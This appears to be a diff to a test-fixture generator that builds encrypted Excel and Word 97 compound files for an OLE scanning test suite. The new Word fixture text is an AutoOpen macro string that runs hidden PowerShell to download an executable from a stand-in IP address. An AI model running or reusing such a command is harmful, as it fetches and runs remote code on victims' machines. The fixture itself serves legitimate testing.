@@ -4,7 +4,12 @@
 # plain BIFF8 .xls, for tests/cli/test_ole.sh:
 #   make_encrypted_xls.py PLAIN.xls PASSWORD OUT MODE
 # MODE: "cryptoapi" (40-bit key, SHA-1), "rc4" (MD5), "cut" (cryptoapi with
-# the FILEPASS record cut to 10 bytes: a garbled record). A FILEPASS record
+# the FILEPASS record cut to 10 bytes: a garbled record); "doc-cryptoapi",
+# "doc-rc4": a Word 97 document instead (PLAIN unused: a WordDocument
+# stream of a FIB base and text, fEncrypted, the 1Table stream starting
+# with the encryption header, the rest of WordDocument encrypted, rekeyed
+# every 512 bytes, [MS-DOC] 2.2.6.2); its plain WordDocument, as
+# msoffcrypto-tool writes it decrypted, goes to OUT.plain. A FILEPASS record
 # is inserted after the first BOF (the BoundSheet8 offsets moved by its
 # size), the records after it encrypted as 2.2.10 says (record headers,
 # BOF, BoundSheet8's lbPlyPos... in clear; the key stream rekeyed every 1024
@@ -18,7 +23,9 @@ import olefile
 from cryptography.hazmat.primitives.ciphers import Cipher, algorithms
 
 plain, password, out, mode = sys.argv[1:5]
-wb = olefile.OleFileIO(plain).openstream("Workbook").read()
+doc = mode.startswith("doc-")
+mode = mode[4:] if doc else mode
+wb = b"" if doc else olefile.OleFileIO(plain).openstream("Workbook").read()
 pw = password.encode("utf-16-le")
 salt = os.urandom(16)
 cryptoapi = mode in ("cryptoapi", "cut")
@@ -54,6 +61,66 @@ filepass = struct.pack("<HH", 0x2F, len(body)) + body
 if mode == "cut":
     filepass = struct.pack("<HH", 0x2F, 10) + body[:10]
 
+
+
+def write_cfb(out, streams):
+    """A compound file of STREAMS ((name, bytes) sorted as the directory
+    wants them, each 4096 bytes or more): header, FAT, directory, data."""
+    S = 512
+    datas = [b + b"\0" * (-len(b) % S) for _, b in streams]
+    n = sum(len(d) // S for d in datas)
+    fat_sectors = (n + 2 + 127) // 128
+    assert fat_sectors <= 109
+    fat = [0xFFFFFFFD] * fat_sectors + [0xFFFFFFFE]  # FAT sectors, directory
+    starts, nxt = [], fat_sectors + 1
+    for d in datas:
+        k = len(d) // S
+        starts.append(nxt)
+        fat += [nxt + j + 1 if j + 1 < k else 0xFFFFFFFE for j in range(k)]
+        nxt += k
+    fat += [0xFFFFFFFF] * (fat_sectors * 128 - len(fat))
+
+    def entry(name, typ, right, child, start, size):
+        nm = (name + "\0").encode("utf-16-le")
+        return (nm.ljust(64, b"\0") + struct.pack("<HBB", len(nm), typ, 1) +
+                struct.pack("<III", 0xFFFFFFFF, right, child) + b"\0" * 36 +
+                struct.pack("<IQ", start, size))
+
+    d = entry("Root Entry", 5, 0xFFFFFFFF, 1, 0xFFFFFFFE, 0)
+    for k, (name, b) in enumerate(streams):
+        d += entry(name, 2, k + 2 if k + 1 < len(streams) else 0xFFFFFFFF, 0xFFFFFFFF,
+                   starts[k], len(b))
+    assert len(d) <= S
+    d = d.ljust(S, b"\0")
+    hdr = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 +
+           struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
+           struct.pack("<IIIIIIIII", 0, fat_sectors, fat_sectors, 0, 4096, 0xFFFFFFFE, 0,
+                       0xFFFFFFFE, 0))
+    hdr += struct.pack("<109I", *(list(range(fat_sectors)) + [0xFFFFFFFF] * (109 - fat_sectors)))
+    with open(out, "wb") as f:
+        f.write(hdr + struct.pack("<%dI" % len(fat), *fat) + d + b"".join(datas))
+
+
+if doc:
+    header = body[2:]  # the FILEPASS body after wEncryptionType
+    # FibBase: wIdent, nFib, unused, lid, pnNext, flags (fEncrypted 0x100,
+    # fWhichTblStm 0x200), nFibBack, lKey, envr..., then text
+    text = ("Sub AutoOpen()\r Shell \"powershell -w hidden iwr http://198.51.100.7/x.exe\"\r"
+            "End Sub\r").encode("utf-16-le") * 40
+    fib = struct.pack("<HHHHHHHI", 0xA5EC, 0xC1, 0, 0x0409, 0, 0x0100 | 0x0200, 0xBF, len(header))
+    fib = fib.ljust(68, b"\0")
+    wd = bytearray(fib + text)
+    plain_wd = bytearray(wd)
+    plain_wd[10:12] = struct.pack("<H", 0x0200)
+    plain_wd[14:18] = b"\0" * 4
+    ks = b"".join(rc4(key(k), bytes(512)) for k in range(len(wd) // 512 + 1))
+    for o in range(68, len(wd)):
+        wd[o] ^= ks[o]
+    table = header + b"\0" * (4096 - len(header))
+    write_cfb(out, [("1Table", table), ("WordDocument", bytes(wd))])
+    open(out + ".plain", "wb").write(bytes(plain_wd))
+    sys.exit(0)
+
 # the records, FILEPASS after the first BOF, lbPlyPos moved by its size
 recs, i = [], 0
 while i + 4 <= len(wb):
@@ -82,32 +149,4 @@ for rid, data in recs[1:]:
         stream[o] ^= stream_keys[o // 1024][o % 1024]
 stream += b"\0" * (4096 - len(stream)) if len(stream) < 4096 else b""
 
-# ---- a compound file with the one stream: header, FAT, directory ----
-S = 512
-data = bytes(stream) + b"\0" * (-len(stream) % S)
-n = len(data) // S
-fat_sectors = (n + 2 + 127) // 128
-assert fat_sectors <= 109
-fat = [0xFFFFFFFD] * fat_sectors + [0xFFFFFFFE]  # FAT sectors, directory
-first = fat_sectors + 1
-fat += [first + k + 1 if k + 1 < n else 0xFFFFFFFE for k in range(n)]
-fat += [0xFFFFFFFF] * (fat_sectors * 128 - len(fat))
-
-
-def entry(name, typ, child, start, size):
-    nm = (name + "\0").encode("utf-16-le")
-    return (nm.ljust(64, b"\0") + struct.pack("<HBB", len(nm), typ, 1) +
-            struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) + b"\0" * 36 +
-            struct.pack("<IQ", start, size))
-
-
-d = (entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry("Workbook", 2, 0xFFFFFFFF, first, len(stream)))
-d = d.ljust(S, b"\0")
-hdr = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) +
-       b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, fat_sectors, 0, 4096, 0xFFFFFFFE, 0,
-                               0xFFFFFFFE, 0))
-difat = list(range(fat_sectors)) + [0xFFFFFFFF] * (109 - fat_sectors)
-hdr += struct.pack("<109I", *difat)
-assert len(hdr) == 512
-with open(out, "wb") as f:
-    f.write(hdr + struct.pack("<%dI" % len(fat), *fat) + d + data)
+write_cfb(out, [("Workbook", bytes(stream))])
